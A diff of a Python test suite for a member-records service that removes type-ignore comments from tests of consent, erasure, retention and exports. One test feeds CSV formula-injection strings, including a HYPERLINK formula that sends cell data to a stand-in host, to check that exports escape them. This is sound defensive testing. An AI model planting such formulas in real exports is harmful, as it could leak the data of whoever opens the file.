@@ -86,7 +86,7 @@ def events(action: str) -> list[AuditEvent]:
 # Adding and changing ------------------------------------------------------------------
 
 
-def test_add_member_by_phone_is_active_with_phone_consents(cast) -> None:  # type: ignore[no-untyped-def]
+def test_add_member_by_phone_is_active_with_phone_consents(cast) -> None:
     member = services.add_member(
         phone_data(), method=ConsentMethod.PHONE, actor=cast["officer"], now=NOW
     )
@@ -106,7 +106,7 @@ def test_add_member_by_phone_is_active_with_phone_consents(cast) -> None:  # typ
     assert "07700" not in created.summary
 
 
-def test_add_member_refuses_a_known_email(cast) -> None:  # type: ignore[no-untyped-def]
+def test_add_member_refuses_a_known_email(cast) -> None:
     make_member(email="ruth@example.org")
     with pytest.raises(services.DuplicateEmail):
         services.add_member(
@@ -114,7 +114,7 @@ def test_add_member_refuses_a_known_email(cast) -> None:  # type: ignore[no-unty
         )
 
 
-def test_add_member_needs_a_way_to_contact_them(cast) -> None:  # type: ignore[no-untyped-def]
+def test_add_member_needs_a_way_to_contact_them(cast) -> None:
     with pytest.raises(services.MemberDataError) as raised:
         services.add_member(
             phone_data(email="", phone="", consents={}),
@@ -125,7 +125,7 @@ def test_add_member_needs_a_way_to_contact_them(cast) -> None:  # type: ignore[n
     assert "email" in raised.value.errors
 
 
-def test_add_member_checks_phone_postcode_and_consent_routes(cast) -> None:  # type: ignore[no-untyped-def]
+def test_add_member_checks_phone_postcode_and_consent_routes(cast) -> None:
     with pytest.raises(services.MemberDataError) as raised:
         services.add_member(
             phone_data(phone="12", postcode="nowhere"),
@@ -144,7 +144,7 @@ def test_add_member_checks_phone_postcode_and_consent_routes(cast) -> None:  # t
     assert set(raised.value.errors) == {"address"}
 
 
-def test_update_member_audits_field_names_only(cast) -> None:  # type: ignore[no-untyped-def]
+def test_update_member_audits_field_names_only(cast) -> None:
     member = make_member()
     changed = services.update_member(
         member,
@@ -163,7 +163,7 @@ def test_update_member_audits_field_names_only(cast) -> None:  # type: ignore[no
     assert event.summary == "phone, tier, is_champion (tier silver→gold)"
 
 
-def test_change_tier_and_withdraw_on_request(cast) -> None:  # type: ignore[no-untyped-def]
+def test_change_tier_and_withdraw_on_request(cast) -> None:
     member = make_member()
     services.change_tier(member, Tier.GOLD, actor=cast["officer"], now=NOW)
     services.withdraw_on_request(member, actor=cast["officer"], now=NOW)
@@ -178,7 +178,7 @@ def test_change_tier_and_withdraw_on_request(cast) -> None:  # type: ignore[no-u
     ]
 
 
-def test_member_query_searches_and_filters(cast) -> None:  # type: ignore[no-untyped-def]
+def test_member_query_searches_and_filters(cast) -> None:
     topic = lists.save_topic(None, name="Cancer", actor="system", now=NOW)
     anna = make_member("Anna Smith", "anna@example.org", postcode="LS1 4AP")
     anna.topics = [topic]
@@ -216,7 +216,7 @@ def _everything_in_the_database() -> str:
     return "\n".join(text)
 
 
-def test_erase_member_leaves_no_email_or_phone_anywhere(cast) -> None:  # type: ignore[no-untyped-def]
+def test_erase_member_leaves_no_email_or_phone_anywhere(cast) -> None:
     member = services.add_member(
         phone_data(
             address="1 High Street",
@@ -301,7 +301,7 @@ def test_apply_retention_erases_after_thirty_days_only() -> None:
     assert erased.summary == "reason: retention"
 
 
-def test_apply_retention_reads_the_configured_period(app) -> None:  # type: ignore[no-untyped-def]
+def test_apply_retention_reads_the_configured_period(app) -> None:
     app.config["MEMBER_RETENTION_DAYS"] = 60
     _withdrawn_member(31)
     assert services.apply_retention(now=NOW) == 0
@@ -311,7 +311,7 @@ def test_apply_retention_reads_the_configured_period(app) -> None:  # type: igno
 # Subject access and exports -----------------------------------------------------------
 
 
-def test_subject_access_export_holds_everything_about_one_member(cast) -> None:  # type: ignore[no-untyped-def]
+def test_subject_access_export_holds_everything_about_one_member(cast) -> None:
     x = services.add_member(
         phone_data(notes="Likes the newsletter"),
         method=ConsentMethod.PHONE,
@@ -352,7 +352,7 @@ def _csv_rows(content: bytes) -> list[list[str]]:
 FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+SUM(1,1)", "-2+3", "@cmd"]
 
 
-def test_export_members_is_formula_safe_in_csv_and_xlsx(cast) -> None:  # type: ignore[no-untyped-def]
+def test_export_members_is_formula_safe_in_csv_and_xlsx(cast) -> None:
     for index, name in enumerate(FORMULAS):
         make_member(name, f"f{index}@example.org", phone="+447700900123")
     _, mimetype, content = services.export_members(
@@ -375,7 +375,7 @@ def test_export_members_is_formula_safe_in_csv_and_xlsx(cast) -> None:  # type: 
         assert "'" + name in cells
 
 
-def test_export_members_leaves_out_pending_withdrawn_and_erased(cast) -> None:  # type: ignore[no-untyped-def]
+def test_export_members_leaves_out_pending_withdrawn_and_erased(cast) -> None:
     make_member("Stays Here", "stays@example.org")
     make_member("Not Confirmed", "pending@example.org", status=MemberStatus.PENDING)
     left = make_member("Has Left", "left@example.org")
@@ -394,7 +394,7 @@ def test_export_members_leaves_out_pending_withdrawn_and_erased(cast) -> None:  
     assert export.summary == "export members: 1 rows (csv)"
 
 
-def test_export_with_equality_is_for_admins_only(cast) -> None:  # type: ignore[no-untyped-def]
+def test_export_with_equality_is_for_admins_only(cast) -> None:
     member = make_member()
     member.equality = EqualityAnswers(ethnicity="white_roma", recorded_at=NOW)
     with pytest.raises(PermissionDenied):
@@ -475,7 +475,7 @@ def test_seed_topics_is_idempotent() -> None:
     assert "Mental health" in [t.name for t in lists.list_topics()]
 
 
-def test_practices_are_renamed_and_retired_not_duplicated(cast) -> None:  # type: ignore[no-untyped-def]
+def test_practices_are_renamed_and_retired_not_duplicated(cast) -> None:
     practice = lists.save_practice(
         None, name="Old Mill Practice", actor=cast["admin"], now=NOW
     )
